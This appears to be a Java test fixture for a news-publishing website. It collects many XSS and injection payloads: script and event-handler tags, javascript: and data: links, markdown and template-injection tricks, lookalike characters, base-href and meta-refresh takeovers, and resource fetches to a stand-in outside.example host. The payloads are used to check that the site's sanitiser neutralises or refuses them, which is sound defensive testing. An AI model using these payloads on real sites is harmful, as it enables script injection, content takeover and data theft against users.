package io.communique.website;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * What somebody would write who wants a statement to do something. A script of theirs would set
 * {@code __ran}, a request of theirs would go to {@code outside.example}.
 */
final class Hostile {

    /** For places that hold a line of text: headline, summary, link previews, a search. */
    static final List<String> HEADLINES =
            List.of(
                    "<script>__ran='headline'</script>",
                    "</title><script>__ran='title'</script>",
                    "</script><script>__ran='data'</script><!--",
                    "\"><img src=x onerror=\"__ran='attribute'\">",
                    "' onmouseover='__ran=1' autofocus onfocus='__ran=1' x='",
                    "\\\"-(__ran='json')-\\\"\\u003cscript\\u003e",
                    "{{constructor.constructor('__ran=1')()}} ${__ran=1} <%= __ran=1 %> #{__ran=1}",
                    "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">__ran='xml'</script>",
                    "&lt;script&gt;__ran=1&lt;/script&gt; &#x3c;script&#x3e;",
                    "<svg/onload=__ran=1><math><mtext></form><form><mglyph><style>",
                    "@if(true)${__ran}@endif @raw $unsafe{__ran} th:text=\"${7*7}\" {% raw %}",
                    "</main></article></body></html><base href=//outside.example/>");

    private static final String RAW_HTML =
            """
            <script>__ran=1</script>

            <SCRIPT SRC=//outside.example/x.js></SCRIPT>

            <script/x>__ran=1</script/x>

            <<script>__ran=1//<</script>

            <scr<script>ipt>__ran=1</scr</script>ipt>

            text <script>__ran=1</script> in a line, and <b onclick=__ran=1>bold</b>

            <script type="module">import "//outside.example/x.mjs"</script>

            <script type=application/ld+json></script><script>__ran=1</script>

            <noscript><p title="</noscript><script>__ran=1</script>">

            <template><script>__ran=1</script></template>

            <style>@import "//outside.example/x.css"; body{background:url(//outside.example/x.png)}</style>

            <p style="position:fixed;inset:0;background:url(//outside.example/y.png)">over everything</p>

            <div class="masthead" id="content">Not the office</div>
            """;

    private static final String HANDLERS =
            """
            <img src=x onerror=__ran=1>

            <img src="x` `<script>__ran=1</script>"` `>

            <svg onload=__ran=1></svg> <svg><script>__ran=1</script></svg> <svg><a xlink:href="javascript:__ran=1"><text>x</text></a></svg>

            <svg><animate onbegin=__ran=1 attributeName=x dur=1s> <set attributeName=href to="javascript:__ran=1">

            <math href="javascript:__ran=1">x</math> <math><mtext><table><mglyph><style><img src=x onerror=__ran=1>

            <body onload=__ran=1> <input autofocus onfocus=__ran=1> <details open ontoggle=__ran=1> <video><source onerror=__ran=1></video>

            <audio src=//outside.example/x.mp3 autoplay onerror=__ran=1> <marquee onstart=__ran=1> <select onfocus=__ran=1 autofocus>

            <a href=# onclick=__ran=1 onpointerover=__ran=1>here</a> <p onanimationstart=__ran=1 style=animation:x>
            """;

    private static final String LINKS =
            """
            [a](javascript:__ran=1) [b](JaVaScRiPt:__ran=1) [c](<javascript:__ran=1>) [d](javascript&colon;__ran=1)

            [e](&#106;avascript:__ran=1) [f](&#x6A;&#x61;vascript&#58;__ran=1) [g](java&Tab;script:__ran=1) [h](java&NewLine;script:__ran=1)

            [i](<java\tscript:__ran=1>) [k](<&nbsp;javascript:__ran=1>)

            [m](data:text/html,<script>__ran=1</script>) [n](data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+) [o](vbscript:__ran=1)

            [p](view-source:javascript:__ran=1) [q](blob:null/x) [r](file:///etc/passwd) [s](feed:javascript:__ran=1) [t](about:blank#x)

            [u](javascript\\:__ran=1) [v](\\javascript:__ran=1) [w](javascript%3A__ran=1) [x](//outside.example "javascript:__ran=1")

            <javascript:__ran=1> <JAVASCRIPT:__ran=1> <data:text/html,x> <vbscript:x> <x:javascript:__ran=1>

            [1] [two][2] [three][] ![four][1] ![five](javascript:__ran=1) [![six](javascript:__ran=1)](javascript:__ran=1)

            [1]: javascript:__ran=1
            [2]: <javascript:__ran=1> "title"
            [three]: data:text/html,x
            [1]: https://ok.example/second

            [y](https://ok.example/"onmouseover="__ran=1) [z](https://ok.example/'onfocus='__ran=1 "\\" autofocus onfocus=__ran=1 x=\\"")

            [tab](#"onclick="__ran=1) [post](mailto:x?subject=<script>__ran=1</script>)
            """;

    private static final String TAKEOVERS =
            """
            <base href="//outside.example/">

            <meta http-equiv="refresh" content="0;url=//outside.example/"> <meta http-equiv=set-cookie content=x=1>

            <meta http-equiv="Content-Security-Policy" content="script-src *"> <meta name=referrer content=unsafe-url>

            <iframe src="javascript:parent.__ran=1"></iframe> <iframe srcdoc="<script>parent.__ran=1</script>"></iframe>

            <object data="//outside.example/x.swf"></object> <embed src="javascript:__ran=1"> <portal src=//outside.example/> <frameset onload=__ran=1>

            <form action="//outside.example/"><button>Search</button></form> <input form=q formaction=javascript:__ran=1 type=submit>

            </div></article></main></body></html><script>__ran=1</script>

            <link rel=stylesheet href=//outside.example/x.css> <link rel=preload as=script href=//outside.example/x.js> <link rel=dns-prefetch href=//outside.example>

            <dialog open>Sign in again</dialog> <div popover id=p>x</div> <slot name=x></slot> <x-element></x-element>
            """;

    private static final String FETCHES =
            """
            ![a](https://outside.example/pixel.png) ![b](//outside.example/pixel.png "title") ![c][p] ![d](data:image/svg+xml,<svg/onload=__ran=1>)

            [p]: https://outside.example/reference.png

            <img src=https://outside.example/x.png> <img srcset="//outside.example/x.png 2x"> <picture><source srcset=//outside.example/x.webp></picture>

            <video poster=//outside.example/x.png src=//outside.example/x.mp4 autoplay></video> <a ping=//outside.example/ href=#>ping</a>

            <table background=//outside.example/x.png><tr><td>x</table> <input type=image src=//outside.example/x.png>

            [![picture](https://outside.example/linked.png)](https://outside.example/) ![](http://127.0.0.1:1/port-scan.png)

            <https://outside.example/auto> https://outside.example/bare www.outside.example someone@outside.example
            """;

    private static final String TRICKS =
            """
            `code <script>__ran=1</script>` ``<img src=x onerror=__ran=1>``

            ```html"onclick="__ran=1" x="><script>__ran=1</script>
            </code></pre><script>__ran=1</script>
            ```

                </code></pre><script>__ran=1</script>

            # Heading <script>__ran=1</script> {#x onclick=__ran=1}

            Setext <img src=x onerror=__ran=1>
            ==================================

            | a <script>__ran=1</script> | "onclick="__ran=1 |
            |:-|-:|
            | <img src=x onerror=__ran=1> | [x](javascript:__ran=1) |

            Footnote[^1] and[^"onclick="__ran=1] and[^<script>].

            [^1]: <script>__ran=1</script> [x](javascript:__ran=1)
            [^"onclick="__ran=1]: x
            [^<script>]: <img src=x onerror=__ran=1>

            {{constructor.constructor('__ran=1')()}} ${__ran=1} <%= __ran=1 %> #{__ran=1} @if(true)@endif $unsafe{__ran=1} {% raw %}

            &lt;script&gt;__ran=1&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt; &NotAnEntity; &#0; &#x1F600;

            [outer [inner](javascript:__ran=1)](javascript:__ran=1) *[a*](javascript:__ran=1) [a](<b)c>) [a]( <b> "c" )

            - [ ] task <input onfocus=__ran=1 autofocus> - [x] ~~struck~~ :smile: @name #tag \\<script>__ran=1\\</script>
            """;

    /** What looks like something else, of that which may be written at all. */
    private static final String LIKENESSES =
            """
            Full width: \uff1cscript\uff1e__ran=1\uff1c/script\uff1e, long s: <\u017fcript>__ran=1</\u017fcript>, Kelvin: lin\u212a

            Small: \ufe64script\ufe65__ran=1\ufe64/script\ufe65, quotes: \uff02 \u201c \u2033, colon: javascript\uff1a__ran=1

            [a](javascript\uff1a__ran=1) [b](\uff4aavascript:__ran=1) [c](\u017fcript:__ran=1) [d](javas\u0441ript:__ran=1)

            Marks of direction: \u200f<script>__ran=1</script>\u200e, a person: \ud83d\udc69, no character: &#0; &NotOne;

            Half of a reference: &lt &gt; &l\u200et; &#x3cscript> &#60script> &amp;lt;
            """;

    /** Each swallows what follows it, in HTML; here nothing may, but its own block. */
    private static final List<String> NEVER_CLOSED =
            List.of(
                    "<!-- <script>__ran=1</script>",
                    "<script>\n__ran=1",
                    "<textarea><script>__ran=1</script>",
                    "<title><script>__ran=1</script>",
                    "<plaintext><script>__ran=1</script>",
                    "<![CDATA[ <script>__ran=1</script>",
                    "<? <script>__ran=1</script>",
                    "<!DOCTYPE x [ <script>__ran=1</script>",
                    "<style>*{display:none}\n",
                    "<xmp><script>__ran=1</script>",
                    "<a href=\"//outside.example/?",
                    "<img src='//outside.example/?",
                    "```\n<script>__ran=1</script>",
                    "> <div onclick=__ran=1\n> x");

    private static final List<String> BODIES =
            List.of(RAW_HTML, HANDLERS, LINKS, TAKEOVERS, FETCHES, TRICKS, LIKENESSES, openEnded());

    /** As many statements as there are headlines; the bodies go round. */
    static final List<Piece> PUBLISHED =
            IntStream.range(0, HEADLINES.size())
                    .mapToObj(i ->
                            new Piece(
                                    "hostile " + i,
                                    HEADLINES.get(i),
                                    HEADLINES.get((i + 5) % HEADLINES.size()),
                                    BODIES.get(i % BODIES.size())))
                    .toList();

    /** A member of a draft that nobody may write so; and where the answer points. */
    record Refused(String member, String json) {}

    /** Parts that have a form of their own are refused at the door. */
    static final List<Refused> REFUSED =
            List.of(
                    new Refused("/headline", "{\"headline\":\"a \\u202egnp.exe\"}"),
                    new Refused("/headline", "{\"headline\":\"a \\u0000 b\"}"),
                    new Refused("/summary", "{\"summary\":\"scr\\u200bipt\"}"),
                    new Refused("/body", "{\"body\":\"[x](<java\\u0001script:__ran=1>)\"}"),
                    new Refused("/body", "{\"body\":\"\\u2066never closed\"}"),
                    new Refused("/body", "{\"body\":\"[x](<&#1;javascript:__ran=1>)\"}"),
                    new Refused("/body", "{\"body\":\"[x](java&#x200b;script:__ran=1)\"}"),
                    new Refused("/body", "{\"body\":\"&#x202e;gnp.exe\"}"),
                    new Refused("/social/title", "{\"social\":{\"title\":\"\\ufeffx\"}}"),
                    new Refused("/label", "{\"label\":\"<b>NEWS</b>\"}"),
                    new Refused("/label", "{\"label\":\"NEWS\\\" onclick=\\\"__ran=1\"}"),
                    new Refused("/path", "{\"path\":\"/news/example/\\\"><script>/\"}"),
                    new Refused("/path", "{\"path\":\"/news/example/../../admin/\"}"),
                    new Refused("/path", "{\"path\":\"javascript:__ran=1\"}"),
                    new Refused("/locale", "{\"locale\":\"en\\\" onload=\\\"__ran=1\"}"),
                    new Refused("/area", "{\"area\":\"<script>\"}"),
                    new Refused("/publishedAt", "{\"publishedAt\":\"<script>\"}"),
                    new Refused("/social/type", "{\"social\":{\"type\":\"article\\\"><script>\"}}"),
                    new Refused("/image/url", "{\"image\":{\"url\":\"javascript:__ran=1\"}}"),
                    new Refused(
                            "/image/url", "{\"image\":{\"url\":\"data:image/svg+xml,<svg/>\"}}"),
                    new Refused(
                            "/image/url",
                            "{\"image\":{\"url\":\"https://me@outside.example/x.png\"}}"));

    private Hostile() {}

    private static String openEnded() {
        return NEVER_CLOSED.stream()
                .map(block -> "> " + block.replace("\n", "\n> "))
                .collect(Collectors.joining("\n\n"));
    }
}
